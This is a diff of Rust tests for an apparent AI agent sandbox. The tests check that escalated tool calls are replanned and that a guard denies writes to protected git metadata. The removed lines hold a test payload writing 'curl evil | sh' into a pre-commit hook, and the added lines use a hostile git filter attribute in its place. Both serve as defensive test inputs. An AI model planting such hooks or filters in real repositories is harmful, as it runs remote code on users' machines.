@@ -11,6 +11,16 @@ use crate::approvals::{Answerer, ApprovalOutcome, ApprovalRequest};
 use crate::backend::{Recorded, RecordingFs, RecordingSpawner};
 
 fn plan(root: &Path, profile: &str, mode: Option<SandboxMode>) -> Plan {
+    plan_from(root, profile, mode, None)
+}
+
+/// Like [`plan`], for one call escalated from a session in mode `from`.
+fn plan_from(
+    root: &Path,
+    profile: &str,
+    mode: Option<SandboxMode>,
+    escalated_from: Option<SandboxMode>,
+) -> Plan {
     let workspace = root.join("home/project");
     std::fs::create_dir_all(&workspace).unwrap();
     let workspace = std::fs::canonicalize(workspace).unwrap();
@@ -37,6 +47,7 @@ fn plan(root: &Path, profile: &str, mode: Option<SandboxMode>) -> Plan {
         host_env: [("PATH".to_owned(), "/usr/bin:/bin".to_owned())].into(),
         found: Vec::new(),
         masks: Vec::new(),
+        escalated_from,
     };
     bridle_policy::plan(&policy, &ctx).unwrap()
 }
@@ -136,6 +147,7 @@ impl Spawner for SharedSpawner {
 fn setup(profile: &str) -> Setup {
     let root = tempfile::tempdir().unwrap();
     let session = plan(root.path(), profile, None);
+    let from = session.spec.mode;
     let workspace = session.spec.workspace.clone();
     let fs = Arc::new(RecordingFs::new());
     let spawner = Arc::new(RecordingSpawner::new(0));
@@ -156,7 +168,7 @@ fn setup(profile: &str) -> Setup {
         Box::new(SharedSpawner(Arc::clone(&spawner))),
     )
     .with_replan(Box::new(move |mode| {
-        Ok(plan(&root_path, &profile, Some(mode)))
+        Ok(plan_from(&root_path, &profile, Some(mode), Some(from)))
     }));
     Setup {
         _root: root,
@@ -242,9 +254,11 @@ fn a_guard_denial_is_final_whatever_the_approval_rules_and_later_plugins_say() {
         .registry()
         .add_guard(Some("later-plugin"), Arc::new(Lenient(Arc::clone(&later))));
     // The mode's rules allow writes in the workspace; the person approves the escalation; a
-    // later plugin's guard has no objection: the shipped guard still denies.
-    let hook = ".git/hooks/pre-commit";
-    let args = serde_json::json!({"path": hook, "content": "curl evil | sh", "sandbox_permissions": "danger-full-access", "justification": "install the hook"});
+    // later plugin's guard has no objection: the shipped guard still denies. (A protected path
+    // such as `.git/hooks` the escalated plan denies itself, before anyone is asked; other git
+    // metadata only the guard keeps.)
+    let hook = ".git/info/attributes";
+    let args = serde_json::json!({"path": hook, "content": "* filter=evil", "sandbox_permissions": "danger-full-access", "justification": "install the filter"});
     let (result, notes) = notes_of(&s.pipeline, "write_file", &args);
     assert_eq!(result.denied_by, Some(DeniedBy::Guard), "{result:?}");
     assert!(
@@ -309,11 +323,11 @@ fn an_approved_escalation_runs_under_a_plan_made_anew() {
     assert_eq!(s.pipeline.plan().spec.mode, SandboxMode::ReadOnly);
 }
 
-/// The known gap, said before the answer: an escalation of a command to `danger-full-access`
-/// has no sandbox to keep the protected paths read-only and no guard can see what the command
-/// writes, so the question warns about exactly that; a smaller escalation does not need to.
+/// Said before the answer: an escalation of a command to `danger-full-access` runs with full
+/// access except the protected paths and bridle's session directory, and the question names
+/// both; a smaller escalation does not need to.
 #[test]
-fn a_question_about_a_full_access_command_says_it_can_write_protected_paths() {
+fn a_question_about_a_full_access_command_says_what_it_can_and_cannot_do() {
     let s = setup("read-only");
     let full = serde_json::json!({"command": "make install", "sandbox_permissions": "danger-full-access", "justification": "install"});
     let (result, _) = notes_of(&s.pipeline, "bash", &full);
@@ -323,13 +337,53 @@ fn a_question_about_a_full_access_command_says_it_can_write_protected_paths() {
     let asked = s.asked.lock().unwrap().clone();
     assert_eq!(asked.len(), 2, "{asked:?}");
     assert!(
-        asked[0].contains("can write the protected paths (`")
+        asked[0].contains("if approved, the command runs with full access")
+            && asked[0].contains("the protected paths stay read-only (`")
             && asked[0].contains(".git/hooks")
-            && asked[0].contains("no guard can stop that"),
+            && asked[0].contains("session directory is hidden")
+            && !asked[0].contains("note: the guard"),
         "{}",
         asked[0]
     );
-    assert!(!asked[1].contains("warning"), "{}", asked[1]);
+    assert!(!asked[1].contains("full access"), "{}", asked[1]);
+}
+
+/// A full-access spec that keeps nothing (planned as if the user had chosen the mode) is not
+/// what an escalated command may run under: the guard denies it, finally, and the question said
+/// so before the answer.
+#[test]
+fn an_escalated_command_under_a_spec_that_keeps_nothing_is_denied_by_the_guard() {
+    let root = tempfile::tempdir().unwrap();
+    let session = plan(root.path(), "workspace-write", None);
+    let registry = crate::schemas::registry(crate::schemas::TOOLS, false);
+    registry.add_guard(
+        None,
+        Arc::new(ProtectedPaths::new(&session.spec, vec![], vec![])),
+    );
+    let spawner = Arc::new(RecordingSpawner::new(0));
+    let yes = Yes::default();
+    let asked = Arc::clone(&yes.asked);
+    let root_path = root.path().to_path_buf();
+    let pipeline = Pipeline::new(
+        session.clone(),
+        registry,
+        Approvals::new(session.approval, Box::new(yes)),
+        Box::new(Shared(Arc::new(RecordingFs::new()))),
+        Box::new(SharedSpawner(Arc::clone(&spawner))),
+    )
+    .with_replan(Box::new(move |mode| {
+        Ok(plan(&root_path, "workspace-write", Some(mode)))
+    }));
+    let full = serde_json::json!({"command": "make install", "sandbox_permissions": "danger-full-access", "justification": "install"});
+    let (result, _) = notes_of(&pipeline, "bash", &full);
+    assert!(!result.ok, "{result:?}");
+    assert_eq!(result.denied_by, Some(DeniedBy::Guard), "{result:?}");
+    assert!(spawner.calls().is_empty(), "it ran: {:?}", spawner.calls());
+    let asked = asked.lock().unwrap().clone();
+    assert!(
+        asked[0].contains("denies this call whatever the answer"),
+        "{asked:?}"
+    );
 }
 
 /// Every tool's schema describes exactly what its argument type accepts: each required key is
